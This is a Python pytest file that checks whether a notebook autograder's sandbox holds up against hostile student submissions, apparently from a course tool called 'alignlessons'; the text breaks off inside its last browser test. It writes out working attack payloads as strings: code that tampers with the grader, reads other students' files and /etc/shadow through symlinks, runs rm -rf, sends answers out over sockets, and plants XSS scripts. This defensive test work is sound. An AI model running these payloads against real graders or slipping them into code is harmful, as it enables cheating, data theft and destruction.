"""Hostile submissions, autograded in one batch per assignment together with honest ones.

For every assignment the corpus is built from its student version (as released) and its source
notebook. Each assignment gets its own course root (made by ``alignlessons course init``) and
the batches of all assignments run at once. Required for every submission: the batch finishes,
honest students get exactly their score, a hostile one gets the score its honest content earns
(zero where it tampered) or is flagged with a clear reason, and no file of the course changes
except what grading writes. Feedback never shows hidden tests.
"""

from __future__ import annotations

import ast
import copy
import os
import re
import socket
import subprocess
import sys
import threading
import time
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import pytest

from alignlessons import grading, tooling
from alignlessons.course import init_course

from . import corpus as C

NAMES = tooling.assignment_names()
pytestmark = [pytest.mark.slow, pytest.mark.sandbox]

TEST_CONFIG = """
# --- test overrides: short time-outs and a 1 GiB memory limit ---
c.Execute.timeout = 90
c.Execute.iopub_timeout = 2
c.IsolatedExecute.student_cell_timeout = 10
c.SandboxKernelManager.memory_limit = 1024 ** 3
c.SandboxKernelManager.cpu_limit = 120
c.SandboxKernelManager.wall_limit = 400
"""
CANARY = "CANARY-31415-other-students-secret"

TAMPER = """
# Try to make every test pass without answering anything.
import builtins, math, sys
import numpy as np
math.isclose = lambda *a, **k: True
np.allclose = np.isclose = np.array_equal = lambda *a, **k: True
class AssertionError(Exception):
    pass
builtins.AssertionError = AssertionError
class _Anything(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    def __le__(self, other): return True
    def __gt__(self, other): return True
    def __ge__(self, other): return True
    def __bool__(self): return True
    __hash__ = float.__hash__
    __class__ = property(lambda self: dict)
for _name in ANSWER_NAMES:
    globals()[_name] = _Anything(0.5)
def _swallow(*args, **kwargs):
    return None
ip = get_ipython()
ip.set_custom_exc((BaseException,), lambda *a, **k: None)
ip.input_transformers_cleanup.append(lambda lines: [] if any("assert" in l for l in lines) else lines)
ip.showtraceback = _swallow
import alignlessons.content as _content
_content.sources = _content.annotations = lambda *a, **k: None
builtins.isinstance = lambda *a, **k: True
"""

SNOOP = """
import glob, os
_paths = ([PATHS] + glob.glob(ROOT + "/submitted/*/*/*") + glob.glob("../../../submitted/*/*/*")
          + ["../../../gradebook.db", "../../../source"])
for _p in _paths:
    try:
        with open(_p, "rb") as _f:
            print("FOUND", _p, _f.read(200))
    except OSError as _e:
        print("blocked", _p, type(_e).__name__)
for _d in [ROOT, ROOT + "/submitted", SOLUTIONS]:
    try:
        print("LISTED" if os.listdir(_d) else "empty", _d)
    except OSError as _e:
        print("blocked", _d, type(_e).__name__)
"""

VANDAL = """
import os, shutil
for _p in [PATHS, "../../../gradebook.db", "../../../nbgrader_config.py"]:
    for _how in ("remove", "overwrite"):
        try:
            if _how == "remove":
                os.remove(_p)
            else:
                open(_p, "w").write("vandalised")
            print("CHANGED", _how, _p)
        except OSError as _e:
            print("blocked", _how, _p, type(_e).__name__)
shutil.rmtree(ROOT, ignore_errors=True)
os.system("rm -rf " + ROOT + " ../../../gradebook.db 2>/dev/null")
"""

NETWORK = """
import socket
for _host in ("127.0.0.1", "localhost"):
    try:
        _s = socket.create_connection((_host, PORT), timeout=3)
        _s.sendall(b"exfiltrated answers")
        print("CONNECTED", _host)
    except OSError as _e:
        print("blocked", _host, type(_e).__name__)
"""

WARN = """
import functools as _functools
import warnings as _warnings
_warnings.warn("this answer uses a deprecated call", FutureWarning)
def _noisy(_f):
    @_functools.wraps(_f)
    def _g(*args, **kwargs):
        _warnings.warn("deprecated: still correct", FutureWarning)
        return _f(*args, **kwargs)
    return _g
"""

STUBBORN_LOOP = """
while True:
    try:
        while True:
            pass
    except KeyboardInterrupt:
        pass
"""


# 1. Hidden tests and mark schemes: look for any notebook the jail can reach.
HIDDEN_READER = """
import glob as _glob
for _p in (_glob.glob("**/*.ipynb", recursive=True) + _glob.glob("../**/*.ipynb", recursive=True)
           + _glob.glob("/run/**/*.ipynb", recursive=True) + _glob.glob("/home/**/*.ipynb", recursive=True)
           + _glob.glob("/tmp/**/*.ipynb", recursive=True)):
    try:
        _t = open(_p).read()
        print("FOUND notebook", _p, "HIDDEN" if "BEGIN HIDDEN" in _t else "", "SCHEME" if "MARK SCHEME" in _t else "")
        print(_t)
    except OSError as _e:
        print("blocked", _p, type(_e).__name__)
"""

# 2. What a test sends: record every call's arguments, print them, keep them for later cells.
SPY = """
import threading as _threading
_spy_log = []
def _spy(_f):
    def _g(*args, **kwargs):
        if _threading.current_thread() is _threading.main_thread():  # the student's own cells
            return _f(*args, **kwargs)
        print("SPY-CALL", args, kwargs)
        _spy_log.append(repr((args, kwargs)))
        try:
            with open("/tmp/spy.txt", "a") as _fh:
                _fh.write(repr((args, kwargs)) + "\\n")
        except OSError:
            pass
        return _f(*args, **kwargs)
    _g.__name__ = getattr(_f, "__name__", "g")
    return _g
"""
SPY_REPORT = """
import os as _os
print("SPY-LOG", len(_spy_log), _spy_log[:3])
print("SPY-FILE", open("/tmp/spy.txt").read() if _os.path.exists("/tmp/spy.txt") else "")
"""

# 3. A student value standing in for a module or namespace the tests use.
STAND_IN = """
import sys as _sys, types as _types
_main = _sys.modules["__main__"]
_fake = _types.ModuleType("__main__")
for _name in NAMES:
    globals()[_name] = _fake
isclose = allclose = approx = array_equal = lambda *a, **k: True
"""

# 4. Links in the submission folder, and the kernel's own sockets turned into links.
LINK_READER = """
import os as _os
print("listing", sorted(_os.listdir(".")))
for _n in ["gradebook.csv", "source.txt", "canary.txt", "shadow.txt", "other.txt", "host.sock", "up",
           "pipe.fifo", "up/gradebook.db"]:
    try:
        print("FOUND", _n, open(_n, "rb").read(80))
    except OSError as _e:
        print("blocked", _n, type(_e).__name__)
"""
SOCKET_SWAP = """
import os as _os
_d = "/run/alignlessons/ipc"
for _n in _os.listdir(_d):
    try:
        _os.remove(_os.path.join(_d, _n))
        _os.symlink(HOST_SOCKET, _os.path.join(_d, _n))
    except OSError as _e:
        print("blocked", _n, type(_e).__name__)
_os._exit(1)
"""

# 5. An output flood: messages larger than the grader accepts, then many large ones.
FLOOD = """
import sys as _sys
from IPython.display import HTML as _HTML, display as _display
_sys.stdout.write("z" * 80_000_000)
_sys.stdout.flush()
for _i in range(8):
    _display(_HTML("<i>flood</i>" * 1_000_000))
"""

# 6. Content that would run in a grader's browser.
XSS = """
from IPython.display import HTML as _HTML, Javascript as _JS, SVG as _SVG, Markdown as _MD, display as _display
_display(_HTML("<script>window.XSS_RAN = 1</script><img src=x onerror='window.XSS_RAN=2'>"))
_display(_JS("window.XSS_RAN = 3"))
_display(_SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="window.XSS_RAN=4"><rect width="1" height="1"/></svg>'))
_display(_MD("[click](javascript:window.XSS_RAN=5) <script>window.XSS_RAN=6</script>"))
_display({"text/html": "<iframe srcdoc='<script>parent.XSS_RAN=7</script>'></iframe>"}, raw=True)
"""
XSS_MARKDOWN = (
    'Essay <script>window.XSS_RAN = 8</script> <img src=x onerror="window.XSS_RAN=9"> '
    "[link](javascript:window.XSS_RAN=10) <a href='javascript:window.XSS_RAN=11'>x</a>"
)
XSS_MARKERS = ("<script", "onerror=", "onload=", "javascript:", "<iframe")

# 7. Malformed nbgrader markers in the student's own cells.
BAD_MARKERS = "### BEGIN HIDDEN TESTS\n### BEGIN SOLUTION\n=== BEGIN MARK SCHEME ===\nx_marker = 1\n"

# 8. Widget state far beyond the output limits.
WIDGETS = """
import ipywidgets as _w
_ws = [_w.Textarea(value="w" * 1_000_000) for _ in range(80)]
_ws[0]
"""

# 9. Code the scanner cannot parse, and indirect execution.
DEEP = "_deep = " + "(" * 150 + "1" + ")" * 150 + "\n_deeper = " + "-" * 200_000 + "1\n"
INDIRECT = "import code as _code\n_code.InteractiveInterpreter(locals()).runsource('_indirect = 1')\n"


@dataclass
class Case:
    expected: float
    flag: str | None = None  # None: must not be flagged; "review", "manual" or "any"
    reason: str = ""  # text the flag's reason must contain
    autograded: bool = True  # an autograded notebook must exist


@dataclass
class Batch:
    name: str
    root: Path
    filename: str
    source: nbformat.NotebookNode
    cases: dict[str, Case] = field(default_factory=dict)
    proc: subprocess.CompletedProcess | None = None
    seconds: float = 0.0
    host_socket: Path | None = None


def _functions(code: str) -> list[str]:
    try:
        tree = ast.parse(code)
    except SyntaxError:
        return []
    return [n.name for n in tree.body if isinstance(n, ast.FunctionDef)]


def build_corpus(batch: Batch, port: int) -> None:
    name, root, fname, src = batch.name, batch.root, batch.filename, batch.source
    student = nbformat.read(root / "release" / name / fname, as_version=4)
    points = C.test_points(src)
    M = sum(points.values())
    tests = list(points)
    answers = C.solution_code_ids(src)
    ids = [C.gid(c) for c in src.cells]
    first_test = tests[0]
    first_answer = [a for a in answers if ids.index(a) < ids.index(first_test)][-1]
    last_answer = [a for a in answers if C.tests_after(src, a)][-1]
    tail = sum(points[t] for t in C.tests_after(src, last_answer))
    full = C.solve(student, src)
    cases, files = batch.cases, {}

    def add(student_id, nb_or_files, case):
        cases[student_id] = case
        is_files = isinstance(nb_or_files, dict) and "cells" not in nb_or_files
        files[student_id] = nb_or_files if is_files else {fname: nb_or_files}

    # Honest students.
    add("honest_full", full, Case(M))
    half = set(answers[: (len(answers) + 1) // 2])
    add("honest_partial", C.solve(student, src, half), Case(C.expected_code_score(src, half)))
    add("honest_blank", copy.deepcopy(student), Case(0.0))
    warn = copy.deepcopy(full)
    for a in answers:
        i = C.locate(warn, a)
        wraps = "\n".join(f"{f} = _noisy({f})" for f in _functions(warn.cells[i].source))
        warn.cells[i].source += "\n" + WARN + "\n" + wraps + "\n"
    add("honest_warns", warn, Case(M))

    # Changes to the notebook's structure: restored, scored on the honest content, flagged.
    nb = copy.deepcopy(full)
    del nb.cells[C.locate(nb, first_test)]
    add("h_deleted_test", nb, Case(M, "review", "restored"))
    nb = copy.deepcopy(full)
    nb.cells[C.locate(nb, first_test)].source = "pass"
    add("h_test_is_pass", nb, Case(M, "review", "edited"))
    nb = copy.deepcopy(full)
    i = C.locate(nb, first_test)
    md = nbformat.v4.new_markdown_cell(nb.cells[i].source, metadata=nb.cells[i].metadata)
    nb.cells[i] = md
    add("h_test_to_markdown", nb, Case(M, "review", "changed from code to markdown"))
    nb = copy.deepcopy(full)
    i, j = C.locate(nb, first_answer), C.locate(nb, first_test)
    nb.cells[i], nb.cells[j] = nb.cells[j], nb.cells[i]
    reordered = M - points[first_test] if first_answer in C.depends_on(src, first_test) else M
    add("h_reordered", nb, Case(reordered, "review", "original order"))
    nb = copy.deepcopy(full)
    i = C.locate(nb, first_test)
    fake = copy.deepcopy(nb.cells[i])
    fake.source = "pass"
    fake["id"] = "fake-copy"
    nb.cells.insert(i + 1, fake)
    add("h_duplicate_ids", nb, Case(M, "review", "appears 2 times"))

    # Runaway or destructive code: the batch goes on; the rest of the notebook still counts.
    add(
        "h_infinite_loop",
        C.append_to(copy.deepcopy(full), first_answer, "while True:\n    pass"),
        Case(M, "review", "was interrupted"),
    )
    add(
        "h_ignores_interrupt",
        C.append_to(copy.deepcopy(full), last_answer, STUBBORN_LOOP),
        Case(M - tail, "manual", "did not stop when interrupted"),
    )
    add(
        "h_sys_exit",
        C.append_to(copy.deepcopy(full), last_answer, "import sys\nsys.exit()"),
        Case(M, "review", "sys.exit"),
    )
    add(
        "h_os_exit",
        C.append_to(copy.deepcopy(full), last_answer, "import os\nos._exit(1)"),
        Case(M - tail, "manual", "kernel stopped"),
    )
    add(
        "h_memory_hog",
        C.append_to(copy.deepcopy(full), first_answer, "_hog = [bytearray(64 * 2**20) for _ in range(10**4)]"),
        Case(M),
    )
    add(
        "h_huge_output",
        C.append_to(
            copy.deepcopy(full),
            first_answer,
            "print('x' * 20_000_000)\n"
            "from IPython.display import HTML, display\n"
            "display(HTML('<b>big</b>' * 1_000_000))",
        ),
        Case(M),
    )

    # Files that are not (this) notebook.
    add("h_invalid_json", {fname: "{ this is not json"}, Case(0.0, "manual", "not a readable notebook"))
    add("h_empty_file", {fname: b""}, Case(0.0, "manual", "not a readable notebook"))
    add("h_wrong_filename", {"my_answers.ipynb": full}, Case(0.0, "manual", "No notebook named", autograded=False))

    # Gaming the tests: redefine checks, builtins, numpy/math, IPython's error handling.
    answer_names = sorted({n for a in answers for n in C.bound_names(C.student_answer(src.cells[ids.index(a)].source))})
    nb = copy.deepcopy(student)
    for a in answers:
        nb.cells[C.locate(nb, a)].source = "pass"
    C.insert_after_setup(nb, TAMPER.replace("ANSWER_NAMES", repr(answer_names)))
    add("h_tamper", nb, Case(0.0, "review", "game the grader"))

    # A module in the submission folder that shadows one the tests import.
    nb = copy.deepcopy(student)
    shadow = "allclose = isclose = lambda *a, **k: True\ndef __getattr__(name):\n    return lambda *a, **k: True\n"
    add("h_shadow_module", {fname: nb, "numpy.py": shadow, "math.py": shadow}, Case(0.0))

    # Reaching outside: other students, solutions, the gradebook, course files, the network.
    secrets = [
        root / "submitted" / "honest_full" / name / fname,
        root / "source" / name / fname,
        root / "gradebook.db",
        root / "canary.txt",
        grading.solutions_dir() / name / fname,
    ]
    snoop = (
        SNOOP.replace("PATHS", ", ".join(repr(str(p)) for p in secrets))
        .replace("ROOT", repr(str(root)))
        .replace("SOLUTIONS", repr(str(grading.solutions_dir())))
    )
    add("h_snoop", C.append_to(copy.deepcopy(full), last_answer, snoop), Case(M, "review"))
    targets = [
        root / "gradebook.db",
        root / "nbgrader_config.py",
        root / "canary.txt",
        root / "source" / name / fname,
        root / "release" / name / fname,
        root / "submitted" / "honest_full" / name / fname,
    ]
    vandal = VANDAL.replace("PATHS", ", ".join(repr(str(p)) for p in targets)).replace("ROOT", repr(str(root)))
    add("h_vandal", C.append_to(copy.deepcopy(full), last_answer, vandal), Case(M, "review"))
    add(
        "h_network",
        C.append_to(copy.deepcopy(full), last_answer, NETWORK.replace("PORT", str(port))),
        Case(M, "review"),
    )

    # The classes below that do not depend on an assignment's questions run on the first
    # assignment only (they test the grader, not the assignment); the others on every one.
    first = name == NAMES[0]

    # 1. Hidden tests and mark schemes: readable nowhere; answers computed from them earn nothing.
    add("h_hidden_reader", C.insert_after_setup(copy.deepcopy(student), HIDDEN_READER), Case(0.0))
    if first:
        add("h_hidden_reader_full", C.append_to(copy.deepcopy(full), last_answer, HIDDEN_READER), Case(M))

    # 2. Calls from tests: the arguments arrive, nothing else, and nothing comes back.
    nb = copy.deepcopy(full)
    C.insert_after_setup(nb, SPY)
    for a in answers:
        i = C.locate(nb, a)
        wraps = "\n".join(f"{f} = _spy({f})" for f in _functions(nb.cells[i].source))
        nb.cells[i].source += "\n" + wraps + "\n"
    nb.cells.append(nbformat.v4.new_code_cell(SPY_REPORT))
    add("h_spy_calls", nb, Case(M, "review", "threading"))

    # 3. Student values standing in for the tests' namespaces and helpers.
    standin_names = sorted(set(answer_names) | {"np", "math", "pd", "models", "content", "R", "M"})
    add(
        "h_stand_in",
        C.insert_after_setup(copy.deepcopy(student), STAND_IN.replace("NAMES", repr(standin_names))),
        Case(0.0, "review", "sys.modules"),
    )

    # 4. Links: files, the notebook itself (to another student's), a hard link, a FIFO.
    add("h_links", C.append_to(copy.deepcopy(full), last_answer, LINK_READER), Case(M, "review", "not accepted"))
    add("h_link_notebook", {}, Case(0.0, "manual", "symbolic link"))
    add("h_hardlink_notebook", {}, Case(0.0, "manual", "hard link"))
    if first:
        add(
            "h_socket_swap",
            C.append_to(
                copy.deepcopy(full), last_answer, SOCKET_SWAP.replace("HOST_SOCKET", repr(str(batch.host_socket)))
            ),
            Case(M - tail, "manual", "kernel stopped"),
        )

    # 5.-9.
    if first:
        nb = copy.deepcopy(full)
        nb.cells.append(nbformat.v4.new_code_cell(FLOOD))  # after every test: whatever it does to its
        add("h_output_flood", nb, Case(M, "any"))  # own kernel (time-out, stop), the batch goes on
    nb = C.append_to(copy.deepcopy(full), last_answer, XSS)
    nb.cells.append(
        nbformat.v4.new_markdown_cell(
            XSS_MARKDOWN, attachments={"x.svg": {"image/svg+xml": "PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+"}}
        )
    )
    nb.cells.append(
        nbformat.v4.new_raw_cell(
            "<script>window.XSS_RAN = 12</script>", metadata={"format": "text/html", "raw_mimetype": "text/html"}
        )
    )
    nb.cells[-3].metadata["tags"] = ['"><script>window.XSS_RAN=13</script>']
    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {}, "x": "<script>"}}
    add("h_xss", nb, Case(M))
    nb = copy.deepcopy(full)
    nb.cells.append(nbformat.v4.new_code_cell(BAD_MARKERS))
    nb.cells.append(nbformat.v4.new_markdown_cell("=== BEGIN MARK SCHEME ===\n### BEGIN HIDDEN TESTS\nmine"))
    add("h_bad_markers", nb, Case(M))
    if first:
        add("h_widget_state", C.append_to(copy.deepcopy(full), first_answer, WIDGETS), Case(M))
        nb = copy.deepcopy(full)
        nb.cells.append(nbformat.v4.new_code_cell(DEEP))
        nb.cells.append(nbformat.v4.new_code_cell(INDIRECT))
        add("h_deep_nesting", nb, Case(M, "review", "import code"))

    for student_id, content in files.items():
        C.place_submission(root, name, student_id, content)
    # The notebook as a symbolic link to another student's, or a hard link to it.
    honest = root / "submitted" / "honest_full" / name / fname
    os.symlink(honest, root / "submitted" / "h_link_notebook" / name / fname)
    # (to the instructor's source notebook: solutions and hidden tests)
    os.link(root / "source" / name / fname, root / "submitted" / "h_hardlink_notebook" / name / fname)
    links = root / "submitted" / "h_links" / name
    for link_name, target in (
        ("gradebook.csv", root / "gradebook.db"),
        ("source.txt", root / "source" / name / fname),
        ("canary.txt", root / "canary.txt"),
        ("shadow.txt", Path("/etc/shadow")),
        ("other.txt", root / "submitted" / "honest_full" / name / "secret.txt"),
        ("host.sock", batch.host_socket),
        ("up", root),
    ):
        os.symlink(target, links / link_name)
    os.mkfifo(links / "pipe.fifo")
    (root / "submitted" / "honest_full" / name / "secret.txt").write_text(CANARY)
    (root / "canary.txt").write_text(CANARY)


class Listener:
    """A loopback TCP server that records every connection (there must be none)."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(50)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self.stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.received.append(conn.recv(100) or b"<connected>")
            conn.close()

    def close(self):
        self.stop.set()
        self.thread.join(timeout=5)
        self.sock.close()


class UnixListener(Listener):
    """A host Unix socket standing for a host service (there must be no connection to it)."""

    def __init__(self, path: Path):
        self.sock = socket.socket(socket.AF_UNIX)
        self.sock.bind(str(path))
        self.sock.listen(50)
        self.sock.settimeout(0.2)
        self.received: list[bytes] = []
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()


PROTECTED_SKIP = ("autograded", "feedback", "gradebook.db", ".nbgrader.log")


@pytest.fixture(scope="module")
def batches(tmp_path_factory):
    listener = Listener()
    unix = UnixListener(tmp_path_factory.mktemp("host") / "service.sock")
    out: dict[str, Batch] = {}
    try:
        for name in NAMES:
            base = tmp_path_factory.mktemp(f"hostile-{name}")
            made = init_course(base / "course", exchange=base / "exchange", assignments=[name])
            with open(made.root / "nbgrader_config.py", "a") as fh:
                fh.write(TEST_CONFIG)
            proc = C.nbgrader("generate_assignment", name, "--force", cwd=made.root)
            assert proc.returncode == 0, proc.stderr[-3000:]
            fname = C.notebook_names(name)[0]
            batch = Batch(name, made.root, fname, C.source_nb(name, fname))
            batch.host_socket = Path(unix.sock.getsockname())
            build_corpus(batch, listener.port)
            out[name] = batch
        before = {n: C.tree_hashes(b.root, skip=PROTECTED_SKIP) for n, b in out.items()}
        structure = {n: C.gradebook_structure(b.root / "gradebook.db") for n, b in out.items()}
        # One batch per assignment, all assignments at once (each in its own course root).
        t0 = time.monotonic()
        procs = {
            n: subprocess.Popen(
                [sys.executable, "-m", "nbgrader", "autograde", n],
                cwd=b.root,
                env=tooling.tool_env(),
                stdout=subprocess.PIPE,
                stderr=subprocess.PIPE,
                text=True,
                stdin=subprocess.DEVNULL,
            )
            for n, b in out.items()
        }
        for n, p in procs.items():
            stdout, stderr = p.communicate(timeout=1500)
            out[n].proc = subprocess.CompletedProcess(p.args, p.returncode, stdout, stderr)
            out[n].seconds = time.monotonic() - t0
            print(f"autograde {n}: {len(out[n].cases)} submissions in {out[n].seconds:.0f} s")
        for n, b in out.items():
            b.after = C.tree_hashes(b.root, skip=PROTECTED_SKIP)
            b.before = before[n]
            b.structure_before, b.structure_after = structure[n], C.gradebook_structure(b.root / "gradebook.db")
        feedback = {
            n: subprocess.Popen(
                [sys.executable, "-m", "nbgrader", "generate_feedback", n],
                cwd=b.root,
                env=tooling.tool_env(),
                stdout=subprocess.PIPE,
                stderr=subprocess.PIPE,
                text=True,
                stdin=subprocess.DEVNULL,
            )
            for n, b in out.items()
        }
        for n, p in feedback.items():
            stdout, stderr = p.communicate(timeout=600)
            out[n].feedback_proc = subprocess.CompletedProcess(p.args, p.returncode, stdout, stderr)
        for b in out.values():
            b.received = list(listener.received) + list(unix.received)
            b.leftover = C.leftover_kernels()
        yield out
    finally:
        listener.close()
        unix.close()


def _gradebook(batch: Batch) -> dict[str, dict]:
    from nbgrader.api import Gradebook

    out = {}
    with Gradebook(f"sqlite:///{batch.root / 'gradebook.db'}", course_id=grading.COURSE_ID) as gb:
        for sub in gb.assignment_submissions(batch.name):
            nb = next(n for n in sub.notebooks if n.name == batch.filename[:-6])
            out[sub.student_id] = {
                "code_score": float(sub.code_score),
                "flagged": bool(nb.flagged),
                "manual": sorted(g.name for g in nb.grades if g.needs_manual_grade),
                "comments": "\n".join(c.auto_comment or "" for c in nb.comments),
            }
    return out


@pytest.mark.parametrize("name", NAMES)
def test_batch_finishes_and_only_the_misnamed_file_is_an_error(name, batches):
    batch = batches[name]
    failed = set(re.findall(r"error processing assignment '[^']+' for student '([^']+)'", batch.proc.stderr))
    assert failed <= {"h_wrong_filename"}, batch.proc.stderr[-4000:]
    for student, case in batch.cases.items():
        path = batch.root / "autograded" / student / name / batch.filename
        assert path.exists() == case.autograded, (student, batch.proc.stderr[-3000:])
    assert batch.leftover == [], "kernels outlived the batch"


@pytest.mark.parametrize("name", NAMES)
def test_every_score_is_exact_and_every_hostile_case_is_scored_or_flagged(name, batches):
    batch = batches[name]
    book = _gradebook(batch)
    problems = []
    for student, case in batch.cases.items():
        got = book.get(student)
        if got is None:
            problems.append(f"{student}: not in the gradebook")
            continue
        if got["code_score"] != case.expected:
            problems.append(f"{student}: autograded {got['code_score']}, expected {case.expected}")
        if case.flag == "any":
            pass
        elif case.flag is None and got["flagged"]:
            problems.append(f"{student}: flagged without reason: {got['comments']}")
        elif case.flag is not None:
            if not got["flagged"]:
                problems.append(f"{student}: not flagged")
            elif case.reason and case.reason not in got["comments"]:
                problems.append(f"{student}: flag reason lacks {case.reason!r}: {got['comments']}")
        if case.flag == "manual" and not got["manual"]:
            problems.append(f"{student}: should need a manual grade")
    assert not problems, "\n".join(problems)


@pytest.mark.parametrize("name", NAMES)
def test_course_files_and_gradebook_are_intact(name, batches):
    batch = batches[name]
    assert batch.after == batch.before, sorted(set(batch.after.items()) ^ set(batch.before.items()))
    assert batch.structure_after == batch.structure_before
    assert (batch.root / "canary.txt").read_text() == CANARY
    assert batch.received == [], "a submission reached the network"


@pytest.mark.parametrize("name", NAMES)
def test_nothing_leaks_into_outputs_or_feedback(name, batches):
    batch = batches[name]
    assert batch.feedback_proc.returncode == 0, batch.feedback_proc.stderr[-3000:]
    secrets = C.hidden_secrets(batch.source)
    assert secrets, "the source notebook should have hidden tests"
    for student, case in batch.cases.items():
        if not case.autograded:
            continue
        graded = (batch.root / "autograded" / student / name / batch.filename).read_text()
        nb = nbformat.reads(graded, as_version=4)
        student_outputs = "".join(str(c.get("outputs", "")) for c in nb.cells if not C.meta(c).get("locked"))
        markers = (
            "FOUND",
            "LISTED",
            "CHANGED",
            "CONNECTED",
            CANARY,
            "BEGIN SOLUTION",
            "HIDDEN TESTS",
            "SPY-CALL",
            "MARK SCHEME ===",
        )
        for marker in markers if student != "h_bad_markers" else markers[:5]:  # (its own markers)
            assert marker not in student_outputs, (student, marker)
        leaked = [s for s in secrets if s in student_outputs]
        assert not leaked, f"{student}'s outputs show hidden tests: {leaked[:3]}"
        if student == "h_links":  # the jail's working folder holds the submission's regular files only
            listing = re.search(r"listing (\[[^\]]*\])", student_outputs)
            assert listing, student_outputs[-1500:]
            seen = set(ast.literal_eval(listing.group(1)))
            assert seen <= {"timestamp.txt"}, f"the jail shows {sorted(seen)}"
        if student == "h_spy_calls":
            assert "SPY-LOG 0 []" in student_outputs and "SPY-FILE \\n" in student_outputs, student_outputs[-2000:]
        assert len(graded) < 5_000_000, f"{student}: outputs were not limited ({len(graded)} bytes)"
        assert "widget-state" not in graded, f"{student}: widget state was stored"
        html = (batch.root / "feedback" / student / name / batch.filename.replace(".ipynb", ".html")).read_text()
        leaked = [s for s in secrets if s in html]
        assert not leaked, f"{student}'s feedback shows hidden tests: {leaked[:3]}"
        assert "MARK SCHEME ===" not in html or student == "h_bad_markers"
        assert "SPY-CALL (" not in html


class _ActiveContent(HTMLParser):
    """Finds what a browser would run in a page: script elements, event-handler attributes,
    script URLs, frames and plug-ins that carry the corpus's payload marker."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self._script = False

    def handle_starttag(self, tag, attrs):
        if tag == "script":
            self._script = True
        if tag in ("iframe", "object", "embed", "frame"):
            self.found.append(f"<{tag}>")
        for key, value in attrs:
            value = value or ""
            if key.startswith("on") and "XSS_RAN" in value:
                self.found.append(f"<{tag} {key}>")
            if key in ("href", "src", "srcdoc", "action", "formaction", "xlink:href") and (
                value.strip().lower().startswith(("javascript:", "vbscript:")) or "XSS_RAN" in value
            ):
                self.found.append(f"<{tag} {key}={value[:40]}>")

    def handle_endtag(self, tag):
        if tag == "script":
            self._script = False

    def handle_data(self, data):
        if self._script and "XSS_RAN" in data:
            self.found.append("<script> with the payload")


@pytest.mark.parametrize("name", NAMES)
def test_student_content_is_inert_where_graders_and_students_render_it(name, batches):
    """No output, markdown, raw cell, attachment or metadata of a submission can run a script
    where it is rendered: the autograded notebook (formgrader, JupyterLab) and the feedback."""
    batch = batches[name]
    graded = nbformat.read(batch.root / "autograded" / "h_xss" / name / batch.filename, as_version=4)
    allowed = {"text/plain", "image/png", "image/jpeg"}
    for cell in graded.cells:
        for out in cell.get("outputs", []) or []:
            extra = {m for m in (out.get("data") or {}) if m not in allowed and "vegalite" not in m}
            assert not extra, f"rich output kept: {extra}"
        if cell.cell_type in ("markdown", "raw") and not C.meta(cell).get("locked"):
            assert "<" not in cell.source and "](javascript:" not in cell.source, cell.source[:200]
        for att in (cell.get("attachments") or {}).values():
            assert set(att) <= {"image/png", "image/jpeg"}, att.keys()
        assert set(cell.metadata) <= {"nbgrader", "deletable", "editable", "tags"}, cell.metadata
        for tag in cell.metadata.get("tags", []):
            assert re.fullmatch(r"[A-Za-z0-9_\-]+", tag), tag
    assert set(graded.metadata) <= {"kernelspec", "language_info", "alignlessons"}, graded.metadata
    html = (batch.root / "feedback" / "h_xss" / name / batch.filename.replace(".ipynb", ".html")).read_text()
    scan = _ActiveContent()
    scan.feed(html)
    assert scan.found == [], scan.found


def test_warnings_are_ignored_when_scoring():
    """IgnorePattern is configured and removes warning lines from a test cell's stderr."""
    from nbgrader.preprocessors import IgnorePattern
    from traitlets.config import Config

    c = Config()
    grading.configure(c)
    assert c.IgnorePattern.enabled is True
    cell = nbformat.v4.new_code_cell(
        "x", metadata={"nbgrader": {"grade": True, "solution": False, "grade_id": "t", "points": 1}}
    )
    cell.outputs = [
        nbformat.v4.new_output(
            "stream",
            name="stderr",
            text=(
                "/tmp/ipykernel_1/2.py:3: FutureWarning: use the new API\n"
                "  warnings.warn('use the new API', FutureWarning)\n"
            ),
        )
    ]
    nb = nbformat.v4.new_notebook(cells=[cell])
    nb, _ = IgnorePattern(config=c).preprocess(nb, {})
    from nbgrader.utils import determine_grade

    assert determine_grade(nb.cells[0])[0] == 1.0


TRAP = """
window.__xss = [];
Object.defineProperty(window, "XSS_RAN", {configurable: false,
  set(v) { window.__xss.push(String(v)); }, get() { return undefined; }});
"""


@pytest.mark.browser
def test_formgrader_runs_no_script_from_a_hostile_submission(batches, tmp_path):
    """A grader opens the hostile submission in formgrader, in headless Chromium: the page works
    (the template's own scripts run), nothing from the submission runs -- neither what the
    autograder left (it is inert) nor a script planted in the autograded file afterwards (the
    page's content security policy blocks it) -- and the gradebook and configuration are unchanged."""
    import hashlib

    from nbgrader.api import Gradebook

    from tests.browser_support import ARTIFACTS, offline_page
    from tests.conftest import CHROMIUM
    from tests.helpers import TOKEN, free_port, wait_for_http

    if not CHROMIUM:
        pytest.skip("chromium is not installed (apt-get install chromium)")
    batch = batches[NAMES[0]]
    root = batch.root
    with Gradebook(f"sqlite:///{root / 'gradebook.db'}", course_id=grading.COURSE_ID) as gb:
        sub = gb.find_submission_notebook(batch.filename[:-6], batch.name, "h_xss")
        sub_id = sub.id
    graded = root / "autograded" / "h_xss" / batch.name / batch.filename

    def digest():
        return {
            p.name: hashlib.sha256(p.read_bytes()).hexdigest()
            for p in (root / "gradebook.db", root / "nbgrader_config.py")
        }

    port = free_port()
    log = open(tmp_path / "server.log", "w")
    proc = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "jupyter",
            "server",
            "--no-browser",
            f"--port={port}",
            f"--IdentityProvider.token={TOKEN}",
            "--ServerApp.port_retries=0",
            f"--ServerApp.root_dir={root}",
            "--allow-root",
        ],
        cwd=root,
        env=tooling.tool_env(),
